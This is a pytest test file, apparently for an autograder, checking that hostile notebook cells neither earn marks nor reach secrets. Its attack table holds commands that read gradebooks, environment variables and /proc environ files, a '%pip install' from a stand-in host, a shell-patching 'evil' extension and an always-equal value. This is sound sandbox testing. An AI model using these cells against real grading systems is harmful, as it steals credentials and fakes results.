"""ATTACKS D, hostile notebooks: broken files, changed cells, and what IPython offers an attacker."""

import json
import os
from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path
from shutil import copytree
from typing import Any

import pytest

from grader.answers import Kitchen, find_answer
from grader.controller import judge
from grader.manifest import Lab, read_lab
from grader.release import release
from grader.results import Verdict, learner_view
from grader.warm import WarmJudge
from tests.attacks.conftest import hold, texts
from tests.attacks.ground import Ground
from tests.attacks.rows import (
    ERROR,
    FAIL,
    INVALID,
    OUTPUT,
    PASS,
    TIMEOUT,
    Outcome,
    leftovers,
    scratch,
    template_family,
    watched,
)
from tests.grader.courses import replace, write_files
from tests.grader.manglings import MANGLINGS
from tests.grader.notebook_lab import NAME, notebook_course, read
from tests.grader.test_notebooks_mangled import BROKEN

pytestmark = pytest.mark.slow

Noted = Callable[[str, object], None]
CHECK = "baseline_is_the_mean"
RIGHT = "baseline = sum(minutes for _, minutes in orders) / len(orders)\n"
WRONG = "baseline = -1.0\n"
SIFT = "\nassert not [line for line in found if 'CAN' + 'ARY' in str(line)], 'found'\n"


@dataclass(frozen=True)
class Course:
    """The notebook lab, its solved work, and what judges are forked from."""

    lab: Lab
    work: Path
    warm: WarmJudge


@pytest.fixture(scope="module")
def course(ground: Ground, template: WarmJudge, tmp_path_factory: pytest.TempPathFactory) -> Course:
    """With the ground's canary in its hidden checks."""
    top = tmp_path_factory.mktemp("notebooks")
    lab = notebook_course(top / "course")
    hidden = lab.solutions / "checks" / "test_hidden.py"
    hidden.write_text(f'WORD = "{ground.canaries[0]}"\n' + hidden.read_text())
    replace(lab.folder / "lab.toml", "cpu_s = 30\nwall_s = 60", "cpu_s = 2\nwall_s = 20\noutput_kb = 32")
    release(lab)
    lab = read_lab(lab.folder)
    work = Kitchen(lab, top / "made").make(find_answer(lab, "master"))
    return Course(lab, work, template)


def attacked(course: Course, ground: Ground, work: Path, expect: Mapping[str, Verdict]) -> None:
    """Judge the work, and hold to what must be true of every row."""
    before = template_family()
    with watched() as pids, scratch() as place:
        facts: dict[str, Any] = {"box": "bubblewrap", "secret": ground.secret, "warm": course.warm}
        result = judge(course.lab, work, hidden=True, only=set(expect), **facts)
        left = leftovers(place, pids, "no mark", before)
    outcome = Outcome(result, json.dumps(learner_view(result), ensure_ascii=False), left)
    hold(outcome, ground, "")
    assert outcome.verdicts == dict(expect), texts(result)


def changed(course: Course, folder: Path, change: Any) -> Path:
    """The solved work with its notebook changed."""
    work = folder / "work"
    copytree(course.work, work)
    notebook = deepcopy(read(work / NAME))
    change(notebook)
    (work / NAME).write_text(json.dumps(notebook))
    return work


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_notebook_is_refused(
    course: Course, ground: Ground, tmp_path: Path, record_property: Noted, name: str
) -> None:
    record_property("attack", f"a notebook: {name}")
    record_property("way", "warm")
    copytree(course.work, tmp_path / "work")
    (tmp_path / "work" / NAME).write_bytes(BROKEN[name][0])
    attacked(course, ground, tmp_path / "work", {CHECK: INVALID})


@pytest.mark.parametrize("name", MANGLINGS)
def test_cells_that_were_moved_about_change_no_grade(
    course: Course, ground: Ground, tmp_path: Path, record_property: Noted, name: str
) -> None:
    record_property("attack", f"a notebook: {name}")
    record_property("way", "warm")
    attacked(course, ground, changed(course, tmp_path, MANGLINGS[name]), {CHECK: PASS})


EVIL = """
def load_ipython_extension(shell):
    shell.run_cell = lambda *_, **__: None
    shell.user_ns["sum"] = lambda *_: 44
    shell.ast_transformers.append(None)
"""
CELLS = {
    "!cmd": (
        f"found = !cat @CLASS@/class.toml @CLASS@/gradebook.db /proc/1/environ; env{SIFT}{RIGHT}",
        PASS,
    ),
    "%%bash": ("%%bash\ncat @CLASS@/* /proc/*/environ > found.txt 2>&1; env >> found.txt\n", PASS),
    "%pip": (f"%pip install --quiet http://127.0.0.1:9/evil.tar.gz\n{RIGHT}", PASS),
    "%load_ext": (f"%load_ext evil\n{WRONG}", ERROR),
    "%autocall": (f"%autocall 2\n{RIGHT}", PASS),
    "%run": (f"%run evil.py\n{RIGHT}", PASS),
    "sys.exit in a cell": (f"import sys\nsys.exit(0)\n{RIGHT}", ERROR),
    "os._exit in a cell": (f"import os\nos._exit(0)\n{RIGHT}", ERROR),
    "a value that lies": (
        "class Liar(float):\n    __eq__ = __le__ = __ge__ = lambda *_: True\nbaseline = Liar(1)\n",
        FAIL,
    ),
    "a million outputs": (f"for number in range(10**6): display(number)\n{RIGHT}", OUTPUT),
    "a flood of prints": (f"while True: print('x' * 1000)\n{RIGHT}", OUTPUT),
    "a huge image": (
        "from IPython.display import Image, display\n"
        f"display(Image(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(64 << 20), format='png'))\n{RIGHT}",
        PASS,
    ),
    "an endless cell": (f"while True: pass\n{RIGHT}", TIMEOUT),
    "input in a cell": (f"input()\n{RIGHT}", ERROR),
    "a patched shell": (
        f"shell = get_ipython()\nshell.run_cell = shell.run_line_magic = lambda *_: None\n{WRONG}",
        ERROR,
    ),
    "NaN": ("baseline = float('nan')\n", FAIL),
}


@pytest.mark.parametrize("name", CELLS)
def test_what_a_cell_tries_earns_nothing_and_takes_nothing(
    course: Course, ground: Ground, tmp_path: Path, record_property: Noted, name: str
) -> None:
    record_property("attack", f"a notebook: {name}")
    record_property("way", "warm")
    source, verdict = CELLS[name]
    for word, value in ground.words.items():
        source = source.replace(f"@{word}@", value)

    def put(notebook: Any) -> None:
        at = next(at for at, cell in enumerate(notebook["cells"]) if "baseline =" in "".join(cell["source"]))
        if source.startswith("%%"):
            own: dict[str, Any] = {
                "cell_type": "code",
                "id": "own",
                "metadata": {},
                "outputs": [],
                "execution_count": None,
            }
            notebook["cells"].insert(at, own | {"source": source})
        else:
            notebook["cells"][at]["source"] = source

    work = write_files(changed(course, tmp_path, put), {"evil.py": EVIL})
    assert os.environ["GRADER_CANARY"] in ground.canaries
    attacked(course, ground, work, {CHECK: verdict})
